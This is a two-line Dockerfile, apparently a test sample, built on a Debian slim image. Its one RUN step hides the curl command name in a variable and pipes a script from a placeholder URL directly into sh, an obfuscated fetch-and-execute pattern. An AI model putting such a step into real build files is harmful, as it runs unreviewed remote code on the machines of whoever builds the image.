FROM debian:bookworm-slim
RUN X=curl; $X https://example.com/i | sh
